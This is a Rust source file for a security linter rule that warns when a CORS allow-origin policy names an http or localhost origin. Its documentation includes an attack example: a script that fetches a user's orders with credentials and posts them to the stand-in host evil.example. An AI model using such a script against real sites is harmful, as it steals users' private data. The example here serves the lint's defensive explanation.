use crate::diagnostic::Diagnostic;
use crate::header::{Field, FieldValue};
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;
use crate::url::Origin;

lint! {
    /// # What it does
    ///
    /// Looks for an `http:` origin, or an origin on the user's own machine such as `http://localhost:3000`, in
    /// `access_control_allow_origin`. A policy whose own `origin` is on the local machine may allow another local origin.
    ///
    /// # Why it matters
    ///
    /// The browser lets scripts of the allowed origin read the response. Over http, anyone on the network can answer for
    /// that origin and serve a script of their own. `localhost` is any program on the user's machine that listens on a
    /// port.
    ///
    /// # Attack
    ///
    /// A user on a public Wi-Fi opens any unencrypted page. The attacker redirects it to `http://app.example.com`, answers
    /// for that host as well, and serves:
    ///
    /// ```html
    /// <script>
    ///   fetch("https://shop.example.com/api/orders", { credentials: "include" })
    ///     .then(response => response.text())
    ///     .then(orders => fetch("http://evil.example/", { method: "POST", body: orders }));
    /// </script>
    /// ```
    ///
    /// The browser sends `Origin: http://app.example.com`, which the shop allows. If the shop also allows credentials, the
    /// script reads the user's orders.
    ///
    /// # Example
    ///
    /// ```text
    /// access_control_allow_origin: "http://app.example.com"
    /// ```
    ///
    /// # Fix
    ///
    /// ```text
    /// access_control_allow_origin: "https://app.example.com"
    /// ```
    ///
    /// # Allow
    ///
    /// Reasonable for data that everyone may read, and in the policy of development builds.
    ///
    /// ```text
    /// #[allow(cors_insecure_origin, reason = "the displays in the lifts have no https, and the data is public")]
    /// access_control_allow_origin: "http://app.example.com"
    /// ```
    ///
    /// # References
    ///
    /// - [CORS for developers](https://w3c.github.io/webappsec-cors-for-developers/#cors)
    /// - [Fetch, CORS check](https://fetch.spec.whatwg.org/#cors-check)
    /// - [MDN, `Access-Control-Allow-Origin`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Access-Control-Allow-Origin)
    Warn "an allowed origin that others can answer for",
    cwe [942, 319], asvs ["3.4.2"],
    check
}
fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let Some(FieldValue::Texts(origins)) = policy.get(Field::AccessControlAllowOrigin).map(|value| value.node) else {
        return;
    };
    for written in origins {
        let Ok(origin) = Origin::parse(&written.node, written.span) else { continue };
        let is_local = origin.is_localhost() || (origin.is_address() && origin.is_trustworthy() && !origin.is_https());
        let (what, help) = match (is_local, origin.is_https()) {
            (true, _) => {
                ("any program on the user's machine", "allow it only in the policy of development builds".to_owned())
            }
            (false, false) => {
                ("anyone on the network", format!("write `\"https://{}\"`", written.node.trim_start_matches("http://")))
            }
            (false, true) => continue,
        };
        // A site on the local machine may allow another one.
        let is_development =
            policy.origin.as_ref().is_some_and(|own| is_local && own.node.is_trustworthy() && !own.node.is_https());
        if !is_development {
            report.push(
                Diagnostic::finding(written.span, format!("{what} can answer for `{origin}`"))
                    .help(help)
                    .note("a script that is served from there can read this response"),
            );
        }
    }
}
